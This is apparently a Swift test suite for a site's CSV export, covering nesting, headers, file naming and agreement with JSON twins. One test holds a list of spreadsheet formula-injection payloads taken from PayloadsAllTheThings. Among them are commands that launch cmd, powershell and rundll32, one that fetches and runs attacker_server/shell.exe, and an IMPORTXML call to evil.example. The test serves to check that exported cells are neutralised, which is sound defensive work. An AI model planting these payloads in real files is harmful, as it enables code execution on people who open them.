import Foundation
import Model
import Rendering
import Site
import Testing

/// List tables as files.
@Suite struct CSVTests {
  private struct Row: Viewable {
    var text: Text?
    var number: Double?
    var count = -1

    static let shape = Shape<Row> {
      $0.text("text", "A text.") { $0.text }
      $0.number("number", "A recorded number.") { $0.number }
      $0.integer("count", "A count of ours.", rule: .any) { $0.count }
      $0.duration("wait", "A duration.") { _ in -1500 }
      $0.word("seen", "Only on pages.", inJSON: false) { _ in "x" }
      $0.object("inner", "A nested value.") { $0.text.map(Inner.init) }
      $0.list("inners", "Nested values.") { [Inner(text: $0.text ?? "")] }
      $0.texts("tags", "Texts.") { [$0.text ?? "a", "b"] }
    }
  }

  private struct Inner: Viewable {
    let text: Text

    static let shape = Shape<Inner> {
      $0.id("id", "An id.") { $0.text }
      $0.flag("flag", "A flag.") { !$0.text.isEmpty }
      $0.time("at", "A time.") { _ in Timestamp(seconds: 1_793_620_800) }
    }
  }

  private func rows(_ rows: [Row]) throws -> [[String]] {
    try #require(CSVReader.rows(CSVWriter.bytes(rows, shape: Row.shape.info)))
  }

  private func rows(_ site: BuiltSite, _ path: String) throws -> [[String]] {
    let bytes = try #require(site.files[path], "\(path)")
    return try #require(CSVReader.rows(bytes), "\(path)")
  }

  @Test func flattensNestedValuesAndNamesTheUnitOfDurations() throws {
    let bytes = CSVWriter.bytes([Row(text: "a,b"), Row()], shape: Row.shape.info)
    #expect(
      String(decoding: bytes, as: UTF8.self)
        == "text,number,count,wait_seconds,inner_id,inner_flag,inner_at,tags\r\n"
        + #""a,b",,-1,-1.5,"a,b",true,2026-11-02T12:00:00Z,"a,b; b""# + "\r\n"
        + #",,-1,-1.5,,,,"a; b""# + "\r\n")
  }

  /// After PayloadsAllTheThings, CSV Injection.
  private static let payloads = [
    #"DDE ("cmd";"/C calc";"!A0")A0"#, "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    #"=cmd|'/c rundll32.exe \\10.0.0.1\3\2\1.dll,0'!_xlbgnm.A1"#,
    #"=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A"#,
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A", "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    #"=IMPORTXML("http://evil.example", "//a/@href")"#, "-2+3+cmd|' /C calc'!D2",
  ]

  @Test(
    arguments: payloads + [
      "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠x", "\u{1B}[31m=1", "\u{1B}]0;x\u{7}=1",
    ])
  func noTextBeginsAFormula(payload: String) throws {
    let cells = try rows([Row(text: Text(payload))])[1]
    var shown = ByteBuffer()
    shown.append(cleanedPlain: Text(payload))
    let guarded = payload.hasPrefix("DDE") ? shown.string : "'" + shown.string
    for column in [0, 4] { #expect(Text(cells[column]) == Text(guarded)) }
    #expect(Text(cells[7]) == Text(guarded + "; b"))
  }

  @Test func numbersAreExemptByTheirTypeAlone() throws {
    let cells = try rows([Row(text: "-0.5", number: -0.5)])[1]
    #expect(cells[0] == "'-0.5")
    #expect(cells[1] == "-0.5")
    #expect(cells[2] == "-1")
    #expect(cells[3] == "-1.5")
  }

  @Test(arguments: HostileTexts.values)
  func everyTextComesBackAsPagesShowIt(text: String) throws {
    var shown = ByteBuffer()
    shown.append(cleanedPlain: Text("x" + text))
    #expect(try rows([Row(text: Text("x" + text))])[1][0] == shown.string)
  }

  // MARK: - The files of a site

  private static let kinds = [
    "services.csv", "services/checkout.csv", "deployments.csv", "deployments/months/2026-10.csv",
    "rollbacks.csv", "failures.csv", "failures/job-types.csv", "conventions.csv",
    "jobs/types.csv", "jobs/months/2026-10.csv", "evidence/checkout.csv",
    "evidence/checkout/2026-10.csv", "evidence/checkout/jobs.csv", "data-quality.csv",
    "data-quality/sources.csv", "data-quality/quarantine.csv", "restatements.csv",
    "corrections.csv", "archive.csv", "agents.csv", "environments.csv",
  ]

  @Test func everyFileHasOneHeaderAndAsManyFieldsInEachLine() throws {
    let site = try BuiltSite.sample.get()
    let paths = site.files.keys.filter { $0.hasSuffix(".csv") }.sorted()
    #expect(Set(Self.kinds).subtracting(paths) == [])
    #expect(paths.contains { $0.hasPrefix("rollbacks/months/") })
    for path in paths {
      let rows = try rows(site, path)
      let header = try #require(rows.first)
      #expect(header.allSatisfy { $0.wholeMatch(of: /[a-z0-9_]+/) != nil }, "\(path): \(header)")
      #expect(Set(header).count == header.count, "\(path)")
      #expect(rows.allSatisfy { $0.count == header.count }, "\(path)")
    }
  }

  @Test func everyFileIsNamedByThePageOfItsTable() throws {
    let site = try BuiltSite.sample.get()
    var named: Set<String> = []
    for (path, page) in try BuiltSite.samplePages.get() {
      let up = path.utf8.count { $0 == 0x2F }
      for link in page.all("footer").flatMap(\.descendants).compactMap({ $0["href"] })
      where link.hasSuffix(".csv") && path != "404.html" {
        named.insert(String(link.dropFirst(3 * up)))
      }
    }
    #expect(Set(site.files.keys.filter { $0.hasSuffix(".csv") }) == named)
  }

  @Test func aMonthIsWholeWhateverPartsItsPagesHave() throws {
    let jobs = (0..<1203).map { i -> Record in
      var job = Job(id: Text("job-\(10_000 + i)"), type: "=build", status: .success)
      job.completedAt = Timestamp(seconds: 1_788_220_800 + Int64(i) * 1200)
      job.startedAt = Timestamp(seconds: 1_788_220_740 + Int64(i) * 1200)
      return .job(job)
    }
    let site = try BuiltSite(jobs, jobPages: .none)
    let rows = try rows(site, "jobs/months/2026-09.csv")
    #expect(rows.dropFirst().map(\.[0]) == (0..<1203).map { "job-\(10_000 + $0)" })
    #expect(rows[1].contains("'=build"))
    let wait = try #require(rows[0].firstIndex(of: "run_time_seconds"))
    #expect(Set(rows.dropFirst().map(\.[wait])) == ["60"])
    for part in ["-p1", "-p2", ""] {
      let page = try site.page("jobs/months/2026-09\(part).html")
      #expect(page.all("a").compactMap { $0["href"] }.contains("../../jobs/months/2026-09.csv"))
    }
  }

  @Test func rowsSayWhatTheTwinSays() throws {
    let site = try BuiltSite.sample.get()
    for (table, list) in [
      ("services/checkout.csv", "deployments"), ("rollbacks.csv", "rollbacks"),
      ("failures.csv", "services"), ("evidence/checkout/2026-10.csv", "deployments"),
      ("data-quality.csv", "findings"), ("services.csv", "services"),
    ] {
      let rows = try rows(site, table)
      let twin = "api/" + table.replacing(".csv", with: ".json")
      let json = try JSONSerialization.jsonObject(with: Data(try #require(site.files[twin])))
      let objects = try #require((json as? [String: Any])?[list] as? [[String: Any]])
      #expect(objects.count == rows.count - 1, "\(table)")
      #expect(!objects.isEmpty, "\(table)")
      for (row, object) in zip(rows.dropFirst(), objects) {
        for (name, cell) in zip(rows[0], row) {
          guard let value = object[name] as? String else { continue }
          #expect(cell == value || cell == "'" + value, "\(table) \(name)")
        }
      }
    }
  }

  @Test func evidenceListsEveryRecordOfEachFigure() throws {
    let site = try BuiltSite.sample.get()
    let rows = try rows(site, "evidence/checkout.csv")
    let json = try JSONSerialization.jsonObject(
      with: Data(try #require(site.files["api/evidence/checkout.json"])))
    let figures = try #require((json as? [String: Any])?["figures"] as? [[String: Any]])
    let metric = try #require(rows[0].firstIndex(of: "metric"))
    let id = try #require(rows[0].firstIndex(of: "deployment_id"))
    for figure in figures {
      let counted = figure["counted"] as? [String] ?? []
      let left = (figure["left_out"] as? [[String: Any]] ?? []).compactMap { $0["id"] as? String }
      let listed = rows.filter { $0[metric] == figure["metric"] as? String }.map(\.[id])
      #expect(listed.sorted() == (counted + left).sorted())
    }
  }
}
